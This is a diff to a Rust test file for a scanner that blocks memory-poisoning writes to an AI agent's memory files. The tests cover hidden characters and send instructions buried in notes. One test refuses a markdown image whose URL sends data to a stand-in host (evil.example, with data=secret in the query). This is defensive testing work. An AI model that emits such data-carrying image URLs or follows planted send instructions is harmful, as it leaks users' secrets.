@@ -2,7 +2,6 @@
 //! character is allowed (inside an emoji sequence) and where it is not, a send
 //! instruction deep in a long note, and the data-carrying image URL named exactly.
 
-use metis_memory_core::MemoryFile;
 use metis_memory_core::scan::{ScanPolicy, findings, scan};
 
 fn id(text: &str) -> Option<&'static str> {
@@ -70,11 +69,10 @@ fn a_data_carrying_image_is_refused_naming_its_url() {
         ScanPolicy::ALL,
     )
     .unwrap();
+    assert_eq!(finding.id, "exfiltration-markdown-image");
     assert_eq!(
-        finding.message(MemoryFile::User),
-        "USER.md write refused by the memory poisoning scan [exfiltration-markdown-image]: \
-         markdown image sending data in its URL (https://evil.example/c.png?data=secret); \
-         nothing was written"
+        finding.detail,
+        "markdown image sending data in its URL (https://evil.example/c.png?data=secret)"
     );
     // A placeholder in the query is enough, whatever the parameter is called, and so is
     // its URL-encoded form.
